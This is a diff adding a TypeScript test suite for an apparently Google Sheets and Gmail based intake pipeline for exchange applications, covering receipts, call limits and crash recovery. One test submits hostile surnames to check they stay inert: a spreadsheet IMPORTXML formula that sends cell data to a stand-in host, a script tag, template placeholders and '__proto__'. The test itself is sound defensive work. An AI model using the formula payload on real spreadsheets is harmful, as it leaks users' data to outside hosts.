@@ -1,0 +1,178 @@
+import type {Snapshot} from '../../emulator';
+import {builtProduct} from '../make/product';
+import {answers, beginSeason, resume, type Season, setUp, table} from './world';
+
+const ZOE = 'zoe@student.kuleuven.be';
+
+let season: Season;
+let ready: Snapshot;
+beforeAll(async () => {
+  season = beginSeason(await builtProduct());
+  setUp(season);
+  ready = season.workspace.snapshot();
+}, 60_000);
+
+const again = (): Season => resume(season, ready);
+
+/** What a person would compare: applications, wishes, outbox rows without ids and times, mails received. */
+function outcome(after: Season, ...addresses: readonly string[]): unknown {
+  return {
+    applications: table(after, 'Applications'),
+    wishes: table(after, 'Wishes'),
+    outbox: table(after, 'Outbox').map(({Key, State}) => [Key, State]),
+    mails: addresses.map(address => after.workspace.mailbox(address).received.map(({subject}) => subject)),
+    drafts: after.workspace.mailbox(after.neo.email).drafts.length,
+  };
+}
+
+describe('intake, from the form to the mailbox', () => {
+  it('an application is taken in at once, with a receipt within one clock step', () => {
+    const here = again();
+    here.form.submitAs(ZOE, answers());
+
+    expect(table(here, 'Applications')).toMatchObject([
+      {Reference: 'S27-0001', State: 'complete', 'First name': 'Zoë', Committee: 'KUL', Language: 'nl'},
+    ]);
+    expect(table(here, 'Wishes').map(wish => wish.Country)).toEqual([
+      'Japan',
+      'Italy',
+      'Québec',
+      'Czech Republic',
+      'Sweden',
+    ]);
+
+    here.workspace.advance({minutes: 10});
+    const {received} = here.workspace.mailbox(ZOE);
+    expect(received.map(({subject}) => subject)).toEqual(['SCOPE 2027: we hebben je kandidatuur (S27-0001)']);
+    expect(received[0]?.text).toContain('Je kandidatuur voor SCOPE 2027 is binnengekomen.');
+    expect(table(here, 'Outbox').map(({State}) => State)).toEqual(['sent']);
+  });
+
+  it('takes in what no trigger told of, with the worker', () => {
+    const here = again();
+    here.workspace.faults.crashAtCall(1);
+    here.form.submitAs(ZOE, answers());
+    expect(table(here, 'Applications')).toEqual([]);
+
+    here.workspace.advance({minutes: 10});
+
+    expect(table(here, 'Applications')).toHaveLength(1);
+    expect(here.workspace.mailbox(ZOE).received).toHaveLength(1);
+  });
+
+  it('costs at most 12 service calls for one response', () => {
+    const here = again();
+    const runs: number[] = [];
+    here.project.inner.onRun = run => {
+      if (run.handler === 'onFormSubmitted') runs.push(run.callCount);
+    };
+    here.form.submitAs(ZOE, answers());
+    here.form.submitAs('b@x.be', answers({Studentennummer: 'r2', Voornaam: 'Bo'}));
+
+    expect(runs[1]).toBeLessThanOrEqual(12);
+    expect(runs[0]).toBeLessThanOrEqual(12 + 6); // the first one reads the configuration as well
+  });
+
+  it('hostile answers stay as typed in the sheet and harmless in the mail', () => {
+    const here = again();
+    // A bare 007 is 7 in Google's own tab already, before we read it.
+    const hostile = [
+      '=IMPORTXML("https://e.x/?"&A2,"//a")',
+      '+1+1',
+      "'=1+1",
+      '{{Reference}}',
+      '<script>alert(1)</script>',
+      '$& $1',
+      '__proto__',
+    ];
+    hostile.forEach((Naam, at) => {
+      here.form.submitAs(`s${at}@x.be`, answers({Naam, Studentennummer: `r${at}`}));
+    });
+    here.workspace.advance({minutes: 20});
+
+    expect(table(here, 'Applications').map(row => row['Last name'])).toEqual(hostile);
+    expect(
+      here.book
+        .tab('Applications')
+        .formulas()
+        .flat()
+        .filter(formula => formula !== ''),
+    ).toEqual([]);
+    const mails = hostile.map((_, at) => here.workspace.mailbox(`s${at}@x.be`).received[0]);
+    expect(mails[hostile.indexOf('{{Reference}}')]?.text).toContain('{{Reference}}');
+    expect(mails[hostile.indexOf('<script>alert(1)</script>')]?.html).not.toContain('<script');
+  });
+});
+
+/** Cuts off the n-th service call, for every n, before and after; a run that comes through ends the series. */
+function everyCut(prepare: (here: Season) => void, go: (here: Season) => void): Season[] {
+  const ends: Season[] = [];
+  for (const phase of ['before', 'after'] as const) {
+    for (let n = 1; n < 200; n++) {
+      const here = again();
+      prepare(here);
+      let cut = false;
+      here.project.inner.onRun = run => {
+        cut ||= run.error?.message.includes('cut off') ?? false;
+      };
+      here.workspace.faults.crashAtCall(n, phase);
+      go(here);
+      here.workspace.faults.clear();
+      here.workspace.advance({minutes: 30});
+      ends.push(here);
+      if (!cut) break;
+    }
+  }
+  return ends;
+}
+
+describe('whatever is cut off', () => {
+  it('the trigger: one application, one receipt, as if nothing had happened', () => {
+    const undisturbed = again();
+    undisturbed.form.submitAs(ZOE, answers());
+    undisturbed.workspace.advance({minutes: 30});
+
+    const ends = everyCut(
+      () => {},
+      here => here.form.submitAs(ZOE, answers()),
+    );
+
+    expect(ends.length).toBeGreaterThan(20);
+    for (const end of ends) expect(outcome(end, ZOE)).toEqual(outcome(undisturbed, ZOE));
+  });
+
+  it('the worker: every receipt once, none lost, no draft left over', () => {
+    const people = ['a@x.be', 'b@x.be', 'c@x.be'];
+    const submit = (here: Season): void => {
+      people.forEach((person, at) => {
+        here.form.submitAs(person, answers({Studentennummer: `r${at}`, Naam: `Peeters ${at}`}));
+      });
+    };
+    const undisturbed = again();
+    submit(undisturbed);
+    undisturbed.workspace.advance({minutes: 40});
+
+    const ends = everyCut(submit, here => here.workspace.advance({minutes: 10}));
+
+    expect(ends.length).toBeGreaterThan(40);
+    for (const end of ends) expect(outcome(end, ...people)).toEqual(outcome(undisturbed, ...people));
+  });
+
+  it('Gmail answers with an error after having sent: the mail is not sent again', () => {
+    const here = again();
+    here.form.submitAs(ZOE, answers());
+    let failed = false;
+    here.workspace.faults.onCall(({call, phase}) => {
+      if (call !== 'Gmail.Users.Drafts.send' || phase !== 'after' || failed) return;
+      failed = true;
+      throw new Error('Backend Error');
+    });
+    here.workspace.advance({minutes: 10});
+    here.workspace.faults.clear();
+    here.workspace.advance({minutes: 30});
+
+    expect(failed).toBe(true);
+    expect(here.workspace.mailbox(ZOE).received).toHaveLength(1);
+    expect(table(here, 'Outbox').map(({State}) => State)).toEqual(['sent']);
+  });
+});
